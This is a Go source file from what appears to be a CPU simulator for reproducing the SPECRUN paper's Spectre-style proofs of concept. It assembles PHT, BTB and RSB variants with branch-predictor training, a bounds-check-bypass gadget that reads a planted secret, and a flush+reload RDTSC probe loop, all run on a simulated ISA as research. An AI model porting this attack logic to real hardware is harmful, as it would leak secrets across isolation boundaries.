// Package attack implements the SPECRUN proof-of-concept attacks of §4 and
// §5 of the paper: the SpectrePHT-style PoC of Fig. 8 (including the
// nop-padded beyond-the-ROB variant of Fig. 11), the SpectreBTB and
// SpectreRSB variants of Fig. 4, the flush+reload covert-channel probe and
// its analysis, and the transient-window measurements of Fig. 10.
//
// Attacker and victim are expressed as one program, exactly like the PoC in
// Fig. 8 of the paper: the "victim" is a function holding a secret and a
// bounds-checked access; the "attacker" trains the predictor through the
// victim's own entry points, triggers runahead execution with CLFLUSH, and
// probes the shared cache with RDTSC.
package attack

import (
	"fmt"

	"specrun/internal/asm"
	"specrun/internal/cpu"
	"specrun/internal/isa"
)

// Variant selects the Spectre training mechanism (§4.4).
type Variant int

const (
	// VariantPHT poisons the pattern history table (Fig. 8).
	VariantPHT Variant = iota
	// VariantBTB aliases a branch-target-buffer entry (Fig. 4a).
	VariantBTB
	// VariantRSBOverwrite overwrites the on-stack return address, leaving
	// the RSB pointing at the gadget (Fig. 4b).
	VariantRSBOverwrite
	// VariantRSBFlush evicts the victim's stack line so the return itself
	// becomes the stalling load (Fig. 4c).
	VariantRSBFlush
)

func (v Variant) String() string {
	switch v {
	case VariantPHT:
		return "pht"
	case VariantBTB:
		return "btb"
	case VariantRSBOverwrite:
		return "rsb-overwrite"
	case VariantRSBFlush:
		return "rsb-flush"
	}
	return "unknown"
}

// MarshalText renders the variant as its String form, so parameters
// serialise to stable, human-readable JSON ("pht" rather than 0).
func (v Variant) MarshalText() ([]byte, error) { return []byte(v.String()), nil }

// UnmarshalText parses the String form.
func (v *Variant) UnmarshalText(text []byte) error {
	switch s := string(text); s {
	case "pht", "":
		*v = VariantPHT
	case "btb":
		*v = VariantBTB
	case "rsb-overwrite":
		*v = VariantRSBOverwrite
	case "rsb-flush":
		*v = VariantRSBFlush
	default:
		return fmt.Errorf("attack: unknown variant %q", s)
	}
	return nil
}

// Params configures a PoC build.  The JSON tags define the stable wire
// format used by the HTTP API; Secret is base64 on the wire (encoding/json's
// []byte convention), so secret byte 86 is "Vg==".
type Params struct {
	Variant        Variant `json:"variant"`
	Secret         []byte  `json:"secret"`          // bytes planted beyond the bounds-checked region
	SecretIdx      int     `json:"secret_idx"`      // which secret byte this run extracts
	TrainingRounds int     `json:"training_rounds"` // T in Fig. 8
	ProbeStride    int     `json:"probe_stride"`    // N in Fig. 8 (bytes between probe entries)
	NopPad         int     `json:"nop_pad"`         // nops between the branch and the secret access (Fig. 11)
}

// DefaultParams returns the Fig. 8/9 configuration: T=16 trainings, N=512,
// secret byte 86 ('V'), no padding.
func DefaultParams() Params {
	return Params{
		Variant:        VariantPHT,
		Secret:         []byte{86},
		TrainingRounds: 16,
		ProbeStride:    512,
	}
}

// Layout reports the addresses the driver needs to interpret results.
type Layout struct {
	Array1     uint64 `json:"array1"`      // bounds-checked array base
	Array1Size uint64 `json:"array1_size"` // value of the bound (stored at D)
	D          uint64 `json:"d"`           // the flushed datum: the bound lives here (array1_size = f(D))
	Array2     uint64 `json:"array2"`      // probe array base (256 * ProbeStride bytes)
	Results    uint64 `json:"results"`     // 256 u64 latencies written by the probe loop
	Secret     uint64 `json:"secret"`      // where the secret bytes were planted
	MaliciousX uint64 `json:"malicious_x"` // out-of-bounds index used by the attack call
	Stride     uint64 `json:"stride"`
}

// Attacker/victim register conventions shared by the variants.
var (
	rArr1    = isa.R(1)
	rArr2    = isa.R(2)
	rD       = isa.R(3)
	rResults = isa.R(4)
	rDummy   = isa.R(5)
	rInX     = isa.R(6)
	rBadX    = isa.R(7)
	rI       = isa.R(8)
	rMask    = isa.R(9)
	rNotM    = isa.R(10)
	rFlushA  = isa.R(11)
	rArg     = isa.R(12) // victim argument: the index x
	rT1      = isa.R(13)
	rT2      = isa.R(14)
	rT3      = isa.R(15)
	rJ       = isa.R(16)
	rLim     = isa.R(17)
	rOnes    = isa.R(18)
	// Victim-side scratch.
	rBound = isa.R(20)
	rVA    = isa.R(21)
	rS     = isa.R(22)
	rVT    = isa.R(23)
	rZ     = isa.R(24)
)

const (
	array1Bound = 16   // architectural size of array1
	secretDist  = 1024 // distance from array1 to the planted secret
	probeCount  = 256
)

// layoutData allocates and initialises the shared data segments.
func layoutData(b *asm.Builder, p Params) Layout {
	var l Layout
	l.Stride = uint64(p.ProbeStride)
	l.D = b.Alloc("D", 64, 64)
	// array1 and the secret share one region so that the secret sits at a
	// fixed out-of-bounds offset from array1 (the paper's "target address").
	l.Array1 = b.Alloc("array1", secretDist+uint64(len(p.Secret))+64, 64)
	l.Secret = l.Array1 + secretDist
	b.Equ("secret", l.Secret)
	b.Bytes(l.Secret, p.Secret)
	l.Array2 = b.Alloc("array2", uint64(probeCount*p.ProbeStride), 4096)
	l.Results = b.Alloc("results", probeCount*8, 64)
	b.Alloc("dummy", 64, 64)
	b.Alloc("stack", 4096, 64)
	l.Array1Size = array1Bound
	// The bound is stored at D: array1_size = f(D) with f = identity, which
	// preserves exactly what the paper needs — the branch predicate depends
	// on the flushed datum D (Fig. 3).
	b.U64(l.D, array1Bound)
	// array1 holds small in-bounds values.
	vals := make([]byte, array1Bound)
	for i := range vals {
		vals[i] = byte(i)
	}
	b.Bytes(l.Array1, vals)
	l.MaliciousX = uint64(secretDist + p.SecretIdx)
	return l
}

// prologue sets up the attacker's registers.
func prologue(b *asm.Builder, l Layout) {
	b.MoviAddr(isa.SP, mustSym(b, "stack")+4096)
	b.MoviAddr(rArr1, l.Array1)
	b.MoviAddr(rArr2, l.Array2)
	b.MoviAddr(rD, l.D)
	b.MoviAddr(rResults, l.Results)
	b.MoviAddr(rDummy, mustSym(b, "dummy"))
	b.Movi(rOnes, -1)
	b.Movi(rInX, 1) // in-bounds training index
	b.Movi(rBadX, int64(l.MaliciousX))
	// The victim legitimately uses its secret (e.g. as a key), so the line
	// holding the targeted byte is warm — the paper's threat model has the
	// secret resident in the victim's working set.  The secret starts on a
	// line boundary and the attack reads secret byte MaliciousX-secretDist,
	// so that byte's line sits at offset (MaliciousX-secretDist) &^ 63.
	b.MoviAddr(rVT, l.Secret)
	b.Ldb(rZ, rVT, int64((l.MaliciousX-secretDist)&^63))
}

// lastIterMask computes rMask = ^0 when rI == 0 (the attack iteration) and 0
// otherwise, branchlessly, so every trip through the training loop executes
// an identical instruction sequence and the global history at the victim
// branch matches between training and attack.
func lastIterMask(b *asm.Builder) {
	b.Sub(rT1, isa.R(0), rI) // -i
	b.Or(rT1, rT1, rI)       // i | -i : bit 63 set iff i != 0
	b.Shri(rT1, rT1, 63)     // 1 if i != 0
	b.Addi(rMask, rT1, -1)   // 0 if i != 0, ^0 if i == 0
	b.Xor(rNotM, rMask, rOnes)
}

// selectByMask emits rd = (a & mask) | (b & ^mask).
func selectByMask(b *asm.Builder, rd, a, bb isa.Reg) {
	b.And(rT2, a, rMask)
	b.And(rT3, bb, rNotM)
	b.Or(rd, rT2, rT3)
}

// flushArray2 emits the probe-array flush loop (Fig. 8 precondition: the
// covert channel starts cold).
func flushArray2(b *asm.Builder, p Params, label string) {
	b.Movi(rJ, 0)
	b.Movi(rLim, probeCount)
	b.Label(label)
	b.Shli(rT1, rJ, shiftFor(p.ProbeStride))
	b.Add(rT1, rArr2, rT1)
	b.Clflush(rT1, 0)
	b.Addi(rJ, rJ, 1)
	b.Blt(rJ, rLim, label)
}

// probeLoop emits the Fig. 8 measurement loop (lines 17-22): for each j,
// time a load of array2[j*N] with RDTSC and store the latency to results[j].
// The per-iteration fence keeps the instruction window nearly empty, so a
// probe miss cannot itself trigger a runahead episode (which would prefetch
// the remaining probe entries and erase the signal) — the same reason real
// flush+reload probes serialise with lfence around rdtscp.
func probeLoop(b *asm.Builder, p Params, label string) {
	b.Fence()
	b.Movi(rJ, 0)
	b.Movi(rLim, probeCount)
	b.Label(label)
	b.Fence()
	b.Shli(rT3, rJ, shiftFor(p.ProbeStride))
	b.Add(rT3, rArr2, rT3)
	b.Rdtsc(rT1)
	b.Ldb(rZ, rT3, 0)
	b.Rdtsc(rT2)
	b.Sub(rT2, rT2, rT1)
	b.Shli(rT1, rJ, 3)
	b.Add(rT1, rResults, rT1)
	b.St(rT1, 0, rT2)
	b.Addi(rJ, rJ, 1)
	b.Blt(rJ, rLim, label)
}

// transmit emits the Fig. 3 gadget every variant reaches transiently: the
// Fig. 11 padding, the secret access S = array1[x] and the transmitting
// load of array2[S * N].
func transmit(b *asm.Builder, p Params) {
	b.NopN(p.NopPad) // Fig. 11: push the access beyond the ROB
	b.Add(rVA, rArr1, rArg)
	b.Ldb(rS, rVA, 0) // S = array1[x] — the secret access
	b.Shli(rVT, rS, shiftFor(p.ProbeStride))
	b.Add(rVT, rArr2, rVT)
	b.Ldb(rZ, rVT, 0) // transmit: array2[S * N]
}

// waitLoop emits the Fig. 8 line 16 delay (`<some_operations> // waiting for
// the victim's execution`): a serial countdown that outlasts the runahead
// episode, so the episode's transient execution is trapped here and cannot
// reach (and self-prefetch) the probe loop.
func waitLoop(b *asm.Builder, label string, iters int64) {
	b.Movi(rT1, iters)
	b.Label(label)
	b.Addi(rT1, rT1, -1)
	b.Bne(rT1, isa.R(0), label)
}

func shiftFor(stride int) int64 {
	s := int64(0)
	for v := stride; v > 1; v >>= 1 {
		s++
	}
	if 1<<s != stride {
		panic(fmt.Sprintf("attack: probe stride %d is not a power of two", stride))
	}
	return s
}

func mustSym(b *asm.Builder, name string) uint64 {
	return b.MustSymNow(name)
}

// Validate checks the parameters a request may carry against Build's
// preconditions (a power-of-two probe stride) and against sizes that keep
// one PoC cheap to build and simulate (a nop costs ~205 bytes of program).
func (p Params) Validate() error {
	if n := len(p.Secret); n < 1 || n > 256 {
		return fmt.Errorf("params: secret length %d out of range (1..256 bytes)", n)
	}
	if p.SecretIdx < 0 || p.SecretIdx >= len(p.Secret) {
		return fmt.Errorf("params: secret_idx %d out of range for a %d-byte secret", p.SecretIdx, len(p.Secret))
	}
	if p.TrainingRounds < 1 || p.TrainingRounds > 1<<12 {
		return fmt.Errorf("params: training_rounds %d out of range (1..%d)", p.TrainingRounds, 1<<12)
	}
	if p.ProbeStride < 64 || p.ProbeStride > 1<<16 || p.ProbeStride&(p.ProbeStride-1) != 0 {
		return fmt.Errorf("params: probe_stride %d must be a power of two in 64..%d", p.ProbeStride, 1<<16)
	}
	if p.NopPad < 0 || p.NopPad > 1<<16 {
		return fmt.Errorf("params: nop_pad %d out of range (0..%d)", p.NopPad, 1<<16)
	}
	return nil
}

// SecretByte returns n as a one-byte secret, refusing a value outside
// 0..255 that the conversion would wrap.
func SecretByte(n int) (byte, error) {
	if n < 0 || n > 255 {
		return 0, fmt.Errorf("secret byte %d out of range", n)
	}
	return byte(n), nil
}

// Build assembles the PoC for the selected variant.
func Build(p Params) (*asm.Program, Layout, error) {
	if len(p.Secret) == 0 {
		return nil, Layout{}, fmt.Errorf("attack: empty secret")
	}
	if p.SecretIdx < 0 || p.SecretIdx >= len(p.Secret) {
		return nil, Layout{}, fmt.Errorf("attack: secret index %d out of range", p.SecretIdx)
	}
	switch p.Variant {
	case VariantPHT:
		return buildPHT(p)
	case VariantBTB:
		return buildBTB(p)
	case VariantRSBOverwrite:
		return buildRSBOverwrite(p)
	case VariantRSBFlush:
		return buildRSBFlush(p)
	}
	return nil, Layout{}, fmt.Errorf("attack: unknown variant %d", p.Variant)
}

// MustBuild panics on error (experiment drivers with constant parameters).
func MustBuild(p Params) (*asm.Program, Layout) {
	prog, l, err := Build(p)
	if err != nil {
		panic(err)
	}
	return prog, l
}

// ReadLatencies extracts the probe-loop measurements from a finished run.
func ReadLatencies(c *cpu.CPU, l Layout) []uint64 {
	return c.Mem().ReadU64Slice(l.Results, probeCount)
}
